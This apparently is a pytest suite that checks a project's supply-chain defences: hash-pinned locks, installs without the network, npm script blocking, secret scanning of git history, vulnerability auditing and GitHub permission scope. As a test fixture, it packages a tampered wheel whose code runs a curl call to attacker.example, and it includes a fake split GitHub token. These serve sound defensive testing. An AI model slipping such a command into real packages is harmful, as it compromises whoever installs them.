"""What is installed is what the locks say, and GitHub is asked for no more than is listed."""

from __future__ import annotations

import ast
import hashlib
import http.server
import json
import os
import re
import shlex
import subprocess
import sys
import tarfile
import threading
import tomllib
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from functools import cache
from importlib.metadata import packages_distributions, requires
from pathlib import Path

import pytest
from packaging.requirements import Requirement
from packaging.utils import canonicalize_name
from world import WRITE, World

from coordinator.github import PERMISSIONS

ROOT = Path(__file__).parents[2]
PROJECT = tomllib.loads((ROOT / "pyproject.toml").read_text())
LOCKS = ("requirements.lock", "requirements-dev.lock", "requirements-audit.lock")
OF_PYTHON = "pip"  # comes with each environment, and is in no lock


def tool(package: str) -> None:
    pytest.importorskip(package, reason="`make test-security` installs it")


# The locks of Python packages


@dataclass(frozen=True, slots=True, kw_only=True)
class Locked:
    """One package of a lock."""

    requirement: Requirement
    hashes: tuple[str, ...]

    @property
    def applies(self) -> bool:
        return self.requirement.marker is None or self.requirement.marker.evaluate()


@cache
def packages(lock: str) -> dict[str, Locked]:
    text = (ROOT / lock).read_text().replace("\\\n", " ")
    found = {}
    for line in text.splitlines():
        words, *hashes = line.split(" --hash=")
        if words.strip() and not words.startswith("#"):
            requirement = Requirement(words.strip())
            found[canonicalize_name(requirement.name)] = Locked(
                requirement=requirement, hashes=tuple(each.strip() for each in hashes)
            )
    return found


def declared(lock: str) -> list[Requirement]:
    """What pyproject.toml asks for that the lock has to hold."""
    groups = PROJECT["dependency-groups"]
    if lock == "requirements-audit.lock":
        return [Requirement(each) for each in groups["audit"]]
    extras = [each for extra in PROJECT["project"]["optional-dependencies"].values() for each in extra]
    dev = groups["dev"] if lock == "requirements-dev.lock" else []
    return [
        Requirement(each) for each in [*PROJECT["project"]["dependencies"], *extras, *groups["build"], *dev]
    ]


def needed(wanted: Iterable[Requirement]) -> dict[str, list[Requirement]]:
    """All that these need on this machine, as the installed packages themselves say."""
    found: dict[str, list[Requirement]] = {}
    waiting = [(each, "") for each in wanted]
    seen = set()
    while waiting:
        requirement, of_extra = waiting.pop()
        if requirement.marker is not None and not requirement.marker.evaluate({"extra": of_extra}):
            continue
        name = canonicalize_name(requirement.name)
        found.setdefault(name, []).append(requirement)
        for extra in ("", *sorted(requirement.extras)):
            if (name, extra) not in seen and name != OF_PYTHON:
                seen.add((name, extra))
                waiting += [(Requirement(each), extra) for each in requires(name) or ()]
    found.pop(OF_PYTHON, None)
    return found


@pytest.mark.parametrize("lock", LOCKS)
def test_every_package_of_a_lock_has_one_version_and_its_hashes(lock):
    assert packages(lock)
    for name, package in packages(lock).items():
        assert re.fullmatch(r"==[^=*,]+", str(package.requirement.specifier)), name
        assert package.hashes, f"{name} has no hash"
        assert all(re.fullmatch("sha256:[0-9a-f]{64}", each) for each in package.hashes), name


def test_the_locks_agree_on_every_version_and_every_hash():
    for one in LOCKS:
        for other in LOCKS:
            for name in packages(one).keys() & packages(other).keys():
                mine, theirs = packages(one)[name], packages(other)[name]
                assert mine.requirement.specifier == theirs.requirement.specifier, name
                assert mine.hashes == theirs.hashes, name


@pytest.mark.parametrize("lock", LOCKS)
def test_a_lock_names_all_that_is_needed_and_nothing_else(lock):
    if lock == "requirements-audit.lock":
        tool("cyclonedx_py")
    wanted = needed(declared(lock))
    assert wanted.keys() == {name for name, package in packages(lock).items() if package.applies}, (
        "run `make lock`"
    )
    for name, requirements in wanted.items():
        (version,) = packages(lock)[name].requirement.specifier
        for requirement in requirements:
            assert requirement.specifier.contains(version.version, prereleases=True), (
                f"{requirement}: {version}"
            )


def test_what_the_build_needs_is_locked_too():
    assert PROJECT["dependency-groups"]["build"] == PROJECT["build-system"]["requires"]


# SQLAlchemy loads psycopg by the address of the database. pydantic-settings belongs to the packages that the
# project was founded on; so far its settings need no more of it than pydantic.
NOT_IMPORTED = {"psycopg", "pydantic-settings"}


def test_what_is_imported_is_declared_and_what_is_declared_is_imported():
    names = {
        canonicalize_name(each.name)
        for each in declared("requirements.lock")
        if str(each) not in PROJECT["dependency-groups"]["build"]
    }
    distributions = packages_distributions()
    imported = {
        canonicalize_name(distribution)
        for folder in ("coordinator", "adw_modules")
        for file in (ROOT / folder).rglob("*.py")
        for module in imports(file)
        if module not in sys.stdlib_module_names
        for distribution in distributions.get(module, (module,))
    }
    assert imported - {"coordinator", "adw-modules"} == names - NOT_IMPORTED


def imports(file: Path) -> Iterator[str]:
    for node in ast.walk(ast.parse(file.read_text())):
        if isinstance(node, ast.Import):
            yield from (alias.name.partition(".")[0] for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module and not node.level:
            yield node.module.partition(".")[0]


# The installation


def would_run(target: str) -> list[list[str]]:
    """The commands of a target of the Makefile, none of them run."""
    said = subprocess.run(
        ["make", "--dry-run", "--always-make", "--no-print-directory", target],
        cwd=ROOT, capture_output=True, text=True, check=True,
    )  # fmt: skip
    return [shlex.split(line) for line in said.stdout.replace("\\\n", " ").splitlines()]


def installations() -> list[list[str]]:
    return [command for command in would_run(".venv/.audit") if "pip" in command]


def test_make_installs_from_locks_by_hash_and_builds_without_the_network():
    from_locks = [command for command in installations() if "-r" in command]
    assert {command[-1] for command in from_locks} == set(LOCKS)
    for command in from_locks:
        assert {"--require-hashes", "--no-deps"} <= set(command)
        assert command[command.index("--only-binary") + 1] == ":all:"
    (own,) = [command for command in installations() if command not in from_locks]
    assert {"--no-index", "--no-deps", "--no-build-isolation", "--editable"} <= set(own)


def install(folder: Path, requirement: str) -> subprocess.CompletedProcess[str]:
    """As the Makefile does it, but from `folder` and into it."""
    (folder / "the.lock").write_text(requirement)
    command = next(each for each in installations() if each[-1] == "requirements.lock")
    options = command[command.index("install") : -2]
    place = [
        "--no-index",
        "--find-links",
        str(folder),
        "--target",
        str(folder / "installed"),
        "--no-build-isolation",
    ]
    environ = {name: value for name, value in os.environ.items() if not name.startswith("PIP_")}
    return subprocess.run(
        [sys.executable, "-m", "pip", *options, *place, "-r", str(folder / "the.lock")],
        capture_output=True, text=True, check=False, env={**environ, "PIP_CONFIG_FILE": os.devnull},
    )  # fmt: skip


def wheel(folder: Path, code: str) -> str:
    """Write victim-1.0 with this code; its hash."""
    path = folder / "victim-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(zipfile.ZipInfo("victim.py"), code)
        archive.writestr(
            zipfile.ZipInfo("victim-1.0.dist-info/METADATA"),
            "Metadata-Version: 2.1\nName: victim\nVersion: 1.0\n",
        )
        archive.writestr(
            zipfile.ZipInfo("victim-1.0.dist-info/WHEEL"),
            "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        archive.writestr(zipfile.ZipInfo("victim-1.0.dist-info/RECORD"), "")
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_a_package_that_was_exchanged_behind_its_name_is_refused(tmp_path):
    locked = f"victim==1.0 --hash=sha256:{wheel(tmp_path, 'GOOD = True')}\n"
    assert install(tmp_path, locked).returncode == 0
    assert (tmp_path / "installed" / "victim.py").read_text() == "GOOD = True"

    (tmp_path / "installed").rename(tmp_path / "before")
    wheel(tmp_path, "import os; os.system('curl https://attacker.example')")
    ended = install(tmp_path, locked)
    assert ended.returncode != 0
    assert "DO NOT MATCH" in ended.stderr
    assert not (tmp_path / "installed" / "victim.py").exists()


def test_a_package_that_would_run_code_to_be_installed_is_refused(tmp_path):
    source = tmp_path / "setup.py"
    code = "from setuptools import setup\nsetup(name='victim', version='1.0')\n"
    source.write_text(f"open({str(tmp_path / 'ran')!r}, 'w')\n{code}")
    with tarfile.open(tmp_path / "victim-1.0.tar.gz", "w:gz") as archive:
        archive.add(source, "victim-1.0/setup.py")
    digest = hashlib.sha256((tmp_path / "victim-1.0.tar.gz").read_bytes()).hexdigest()
    assert install(tmp_path, f"victim==1.0 --hash=sha256:{digest}\n").returncode != 0
    assert not (tmp_path / "ran").exists()


# The programs from npm that tests run


def npm_packages() -> dict[str, dict[str, object]]:
    lock = json.loads((ROOT / "tests" / "npm" / "package-lock.json").read_text())
    return {name: package for name, package in lock["packages"].items() if name}


def test_every_npm_package_has_its_hash_and_is_from_the_registry():
    """`npm install` leaves out the hash of packages that it cannot ask for: take those from the lock."""
    for name, package in npm_packages().items():
        assert str(package.get("integrity", "")).startswith("sha512-"), f"{name} has no hash"
        assert str(package.get("resolved", "https://registry.npmjs.org/")).startswith(
            "https://registry.npmjs.org/"
        )


def test_no_npm_package_runs_anything_when_it_is_installed_but_those_that_are_named():
    makefile = (ROOT / "Makefile").read_text()
    assert re.search(r"npm ci [^\n]*--ignore-scripts", makefile)
    (named,) = re.findall(r"^NPM_SCRIPTS := (.*)$", makefile, re.MULTILINE)
    for name in named.split():
        assert npm_packages()[f"node_modules/{name}"]["hasInstallScript"]


# Secrets in the repository

TOKEN = "ghp_" + "R7kQ2mZx9LpW4sVb8NcY3tHd6JfG5aEu1XoS"  # in pieces, so that it is none here


def git(folder: Path, *arguments: str) -> None:
    own = ["-c", "user.name=a", "-c", "user.email=a@localhost", "-c", "commit.gpgsign=false"]
    subprocess.run(["git", *own, *arguments], cwd=folder, check=True, capture_output=True)


def scan(folder: Path, *options: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, str(ROOT / "tools" / "scan-secrets.py"), "--root", str(folder), *options]
    return subprocess.run(command, capture_output=True, text=True, check=False)


@pytest.fixture
def checkout(tmp_path) -> Path:
    tool("detect_secrets")
    (tmp_path / "tests").mkdir()
    (tmp_path / "README.md").write_text("Nothing here.\n")
    git(tmp_path, "init", "--quiet")
    git(tmp_path, "add", ".")
    git(tmp_path, "commit", "--quiet", "--message", "Begin")
    return tmp_path


def test_a_token_that_a_later_commit_took_out_is_still_found(checkout):
    assert scan(checkout).returncode == 0
    (checkout / "config.py").write_text(f"token = '{TOKEN}'\n")
    uncommitted = scan(checkout)
    assert uncommitted.returncode == 1
    assert "GitHub Token in config.py" in uncommitted.stderr
    git(checkout, "add", ".")
    git(checkout, "commit", "--quiet", "--message", "Add the configuration")
    git(checkout, "rm", "--quiet", "config.py")
    git(checkout, "commit", "--quiet", "--message", "Take the token out")

    removed = scan(checkout)
    assert removed.returncode == 1
    assert "GitHub Token in config.py in commit" in removed.stderr
    assert TOKEN not in removed.stdout + removed.stderr
    assert scan(checkout, "--write").returncode == 0
    assert TOKEN not in (checkout / "tests" / "known-secrets.txt").read_text()
    assert scan(checkout).returncode == 0


def test_a_token_in_the_words_of_a_commit_is_found_and_no_checkout_is_no_all_clear(
    checkout, tmp_path_factory
):
    git(checkout, "commit", "--quiet", "--allow-empty", "--message", f"Try it\n\nwith {TOKEN}")
    assert "GitHub Token in message of commit" in scan(checkout).stderr
    elsewhere = scan(tmp_path_factory.mktemp("elsewhere"))
    assert elsewhere.returncode == 1
    assert "git checkout" in elsewhere.stderr


# Known vulnerabilities


class Advisories(http.server.BaseHTTPRequestHandler):
    """OSV's query: for one package and version, what is known of it."""

    known: dict[str, str]

    def do_POST(self) -> None:
        asked = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        number = self.known.get(f"{asked['package']['name']}=={asked['version']}")
        answer = {"vulns": [self.advisory(number, asked["package"]["name"])]} if number else {}
        body = json.dumps(answer).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    @staticmethod
    def advisory(number: str, name: str) -> dict[str, object]:
        ranges = [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "99"}]}]
        affected = [{"package": {"name": name, "ecosystem": "PyPI"}, "ranges": ranges}]
        return {"id": number, "modified": "2026-01-01T00:00:00Z", "affected": affected}

    def log_message(self, *_: object) -> None: ...


def ask_for_holes(tmp_path: Path, *options: str, known: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """Ask a service that knows `known` about one locked package."""
    tool("pip_audit")
    lock = tmp_path / "the.lock"
    lock.write_text(f"victim==1.0 --hash=sha256:{'0' * 64}\n")
    handler = type("Known", (Advisories,), {"known": known})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        url = f"http://127.0.0.1:{server.server_port}/v1/query"
        command = [
            sys.executable,
            str(ROOT / "tools" / "check-vulnerabilities.py"),
            str(lock),
            "--osv-url",
            url,
        ]
        try:
            return subprocess.run([*command, *options], capture_output=True, text=True, check=False)
        finally:
            server.shutdown()
            thread.join()


CANARY = {"jinja2==2.11.2": "PYSEC-2021-66"}


def test_a_known_hole_in_a_locked_package_ends_the_audit_with_its_number(tmp_path):
    ended = ask_for_holes(tmp_path, known=CANARY | {"victim==1.0": "PYSEC-2026-1"})
    assert ended.returncode == 1
    assert "victim 1.0: PYSEC-2026-1, mended in 99" in ended.stderr


def test_no_known_hole_is_said_only_of_a_service_that_knows_any(tmp_path):
    ended = ask_for_holes(tmp_path, known=CANARY)
    assert (ended.returncode, ended.stderr) == (0, "")
    assert "No known vulnerabilities in the.lock" in ended.stdout
    ignorant = ask_for_holes(tmp_path, known={})
    assert ignorant.returncode == 0
    assert "were NOT looked for" in ignorant.stdout
    assert ask_for_holes(tmp_path, "--required", known={}).returncode == 69


# The list of what is in it


def test_the_bill_of_materials_names_every_locked_package_with_its_hashes_and_is_the_same_each_time(tmp_path):
    tool("cyclonedx_py")
    (command,) = [each for each in would_run("sbom") if any(word.endswith("cyclonedx-py") for word in each)]
    begin = next(at for at, word in enumerate(command) if word.endswith("cyclonedx-py")) + 1
    options = [
        str(tmp_path / "sbom.json") if word == "build/sbom.cdx.json" else word for word in command[begin:]
    ]
    subprocess.run(
        [sys.executable, "-W", "ignore", "-m", "cyclonedx_py", *options],
        cwd=ROOT,
        check=True,
        capture_output=True,
    )
    bill = json.loads((tmp_path / "sbom.json").read_text())
    named = {
        (canonicalize_name(each["name"]), f"=={each['version']}"): {
            f"sha256:{digest['content']}"
            for reference in each["externalReferences"]
            for digest in reference.get("hashes", ())
        }
        for each in bill["components"]
    }
    assert named == {
        (name, str(package.requirement.specifier)): set(package.hashes)
        for name, package in packages("requirements.lock").items()
    }
    assert "serialNumber" not in bill
    assert "timestamp" not in bill["metadata"]


# What GitHub is asked, and what for

VERBS = {"GET", "POST", "PATCH", "PUT", "DELETE"}


def documented() -> dict[str, str]:
    """The table of docs/github.md: a request -> the permission it needs."""
    page = (ROOT / "docs" / "github.md").read_text()
    rows = re.findall(r"^\| `((?:[A-Z]+ /|git )[^`]*)`[^|]* \| ([^|]+) \|", page, re.MULTILINE)
    found = {plain(request): permission.strip() for request, permission in rows}
    assert len(found) == len(rows)
    return found


def plain(request: str) -> str:
    """Without the names of what stands in the braces; a repository is one of them."""
    named = request.replace("{owner}/{repo}", "{repo}").replace("[bot]", "%5Bbot%5D")
    return re.sub(r"\{[a-z_]*\}", "{}", named)


def in_the_code() -> set[str]:
    """Every path that coordinator/github spells, with the verb of the call around it."""
    return {each for file in (ROOT / "coordinator" / "github").glob("*.py") for each in spelled(file)}


def spelled(file: Path) -> Iterator[str]:
    tree = ast.parse(file.read_text())
    parents = {child: node for node in ast.walk(tree) for child in ast.iter_child_nodes(node)}
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr == "graphql_url":
            yield from (["POST /graphql"] if verb_around(node, parents) == "POST" else [])
        path = path_of(node)
        if path is None or isinstance(parents.get(node), ast.JoinedStr) or path.endswith("{}{}"):
            continue  # no path, a piece of one, or one that gets its end elsewhere
        is_whole = path.startswith(("/repos/", "/user", "/app"))
        yield f"{verb_around(node, parents)} {path if is_whole else '/repos/{}' + path}"


def path_of(node: ast.AST) -> str | None:
    pieces = node.values if isinstance(node, ast.JoinedStr) else [node]
    text = "".join(
        (piece.value if isinstance(piece.value, str) else "") if isinstance(piece, ast.Constant) else "{}"
        for piece in pieces
    )
    return text if re.fullmatch(r"/[a-z]+(/.*)?", text) else None


def verb_around(node: ast.AST, parents: dict[ast.AST, ast.AST]) -> str:
    around: ast.AST | None = node
    while around is not None and not isinstance(around, ast.stmt):
        around = parents.get(around)
        if isinstance(around, ast.Call):
            for argument in around.args:
                if isinstance(argument, ast.Constant) and argument.value in VERBS:
                    return str(argument.value)
    return "GET"


def test_every_request_in_the_code_has_its_permission_in_the_table_and_no_other_has_one():
    assert in_the_code() == {request for request in documented() if not request.startswith("git ")}


def test_the_permissions_that_are_asked_for_are_those_of_the_table():
    wanted: dict[str, str] = {}
    for permission in documented().values():
        name, _, level = permission.partition(": ")
        if level:
            key = name.lower().replace(" ", "_")
            wanted[key] = max(wanted.get(key, ""), level)  # "write" is after "read"
    assert wanted == PERMISSIONS


def test_from_the_label_to_the_pull_request_nothing_is_asked_that_is_not_in_the_table(world: World) -> None:
    number = world.issue(WRITE)
    world.start()
    world.until_state(number, "succeeded")
    world.until_quiet()
    repository = r"/(?:repos/[^/]+/[^/]+|repositories/\d+)"
    listed = [re.escape(request).replace(r"/repos/\{\}", repository) for request in documented()]
    patterns = [re.compile(each.replace(r"\{\}", "[^/]+")) for each in listed]
    asked = {f"{request.method} {request.path}" for request in world.server.requests}
    assert any(each.startswith("POST ") and each.endswith("/pulls") for each in asked)
    assert not [each for each in asked if not any(pattern.fullmatch(each) for pattern in patterns)]
